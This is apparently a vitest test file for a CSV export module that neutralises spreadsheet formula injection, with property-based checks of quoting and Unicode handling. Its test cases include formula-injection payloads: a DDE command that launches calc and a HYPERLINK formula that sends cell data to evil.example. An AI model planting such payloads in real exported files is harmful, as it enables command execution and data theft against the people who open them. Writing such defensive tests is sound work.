import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { CSV_BOM, csvRow, neutraliseCell } from './csv.ts';

const ATTACK_UNITS = '=,+,-,@,;,",\',\t,\r,\n,\0, ,\u200B,\u00A0,\uFEFF,\uD800,\uFF1D,a,1,!,('
  .split(',')
  .concat(',');

const read = (csv: string) => parse(csv, { record_delimiter: '\r\n' });
const bare = (text: string) => text.replaceAll("'", '');
const readCell = (text: string) => read(csvRow(['id', text]))[0]?.[1];

/** Any code point, surrogates on their own too; fast-check's own unit of this kind takes a second to set up. */
const codePoint = fc
  .oneof(fc.nat(0x7f), fc.nat(0x10ff), fc.nat(0xffff), fc.nat(0x10ffff))
  .map((point) => String.fromCodePoint(point));

const anyText = fc.oneof(
  fc.string({ unit: codePoint }),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...ATTACK_UNITS) }),
);

describe('a text that a spreadsheet would run', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['\tplain', "'\tplain"],
    ['\rplain', "'\rplain"],
    ['\nplain', "'\nplain"],
    ['\0=1', "'=1"],
    ['=\u0000cmd', "'=cmd"],
    ['\uFF1D1', "'\uFF1D1"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
    ['\uFF20SUM', "'\uFF20SUM"],
    ['\uFE661', "'\uFE661"],
    ['  =1', "'  =1"],
    ['\u00A0=1', "'\u00A0=1"],
    ['\uFEFF=1', "'\uFEFF=1"],
    ['\u200B\u2060=1', "'\u200B\u2060=1"],
    ['\u202E=1', "'\u202E=1"],
    ['\u0001\u001B=1', "'\u0001\u001B=1"],
    ['\u00AD=1', "'\u00AD=1"],
    ['\uFE0F\u{E0001}=1', "'\uFE0F\u{E0001}=1"],
    ['-12.5', "'-12.5"],
    ['-', "'-"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    [
      '=HYPERLINK("https://evil.example?x="&A1,"a")',
      `'=HYPERLINK("https://evil.example?x="&A1,"a")`,
    ],
    ['+33 1 02 03 04 05', "'+33 1 02 03 04 05"],
  ])('%j is written as %j', (text, expected) => {
    expect(readCell(text)).toBe(expected);
  });

  test('is neutralised too where a reader that splits at semicolons, tabs or lines would start a cell', () => {
    expect(readCell('a;=1+1;b')).toBe("a;'=1+1;b");
    expect(readCell('a\t@x')).toBe("a\t'@x");
    expect(readCell('a;"=1+1;')).toBe('a;\'"=1+1;');
    expect(readCell('a\n \u200B=1')).toBe("a\n' \u200B=1");
  });
});

test('a text that is no formula stays as it is', () => {
  for (const text of [
    'a=b',
    '1-2',
    'me@example.com',
    '12.5',
    "'quoted",
    '"=1"',
    'é',
    '👩‍🚀',
    'a; b',
    '',
  ]) {
    expect(neutraliseCell(text)).toBe(text);
  }
});

test('a number stays a number, also below zero', () => {
  expect(csvRow([-12.5, 0, 1e21, -0])).toBe('-12.5,0,1e+21,0\r\n');
});

test('a null and a number without a value are empty cells', () => {
  expect(csvRow([null, Number.NaN, Number.POSITIVE_INFINITY, ''])).toBe(',,,\r\n');
});

test('quotes, commas and line ends are quoted as RFC 4180 says', () => {
  expect(csvRow(['a,b', 'say "hi"', 'a\r\nb'])).toBe('"a,b","say ""hi""","a\r\nb"\r\n');
});

test('a row of one empty cell is not an empty line', () => {
  expect(csvRow([null])).toBe('""\r\n');
});

test('a lone surrogate becomes a replacement character, so that the file is UTF-8', () => {
  expect(readCell('a\uD800b\u{1F600}')).toBe('a\uFFFDb\u{1F600}');
});

test('the mark at the start of a file is U+FEFF', () => {
  expect(new TextEncoder().encode(CSV_BOM)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
});

test('a CSV reader reads back exactly what was written, whatever the texts', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(anyText, anyText, anyText), { minLength: 1 }), (rows) => {
      const csv = rows.map((row) => csvRow(row)).join('');
      expect(read(csv)).toEqual(rows.map((row) => row.map(neutraliseCell)));
    }),
  );
});

test('neutralising adds apostrophes and repairs Unicode, and changes nothing else', () => {
  fc.assert(
    fc.property(anyText, (text) => {
      expect(bare(neutraliseCell(text))).toBe(
        bare(Buffer.from(text.replaceAll('\0', '')).toString()),
      );
    }),
  );
});

test('no cell starts a formula, neither for a reader of commas nor of semicolons nor of tabs', () => {
  const formula = /^[\s\p{C}\p{DI}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/u;
  fc.assert(
    fc.property(fc.array(anyText, { minLength: 1, maxLength: 4 }), (texts) => {
      const line = csvRow(['id', ...texts]);
      for (const cell of read(line)[0] ?? []) expect(cell).not.toMatch(formula);
      for (const cell of line.split(/[;\t\r\n]/))
        expect(cell.replace(/^"+/, '')).not.toMatch(formula);
    }),
  );
});

test('every cell of a line comes back as it was, or neutralised, whatever stands beside it', () => {
  const nearlyPlain = fc.string({ unit: fc.constantFrom(...Array.from('aZ09 .-=,;"+_\t\u00e9')) });
  const cells = fc.array(fc.oneof(nearlyPlain, anyText), { minLength: 2, maxLength: 6 });
  fc.assert(
    fc.property(cells, (texts) => {
      expect(read(csvRow(texts))).toEqual([texts.map(neutraliseCell)]);
    }),
    { numRuns: 1_000 },
  );
  expect(csvRow(['a', Number.NaN, 1.5, -2, null, 'b'])).toBe('a,,1.5,-2,,b\r\n');
});
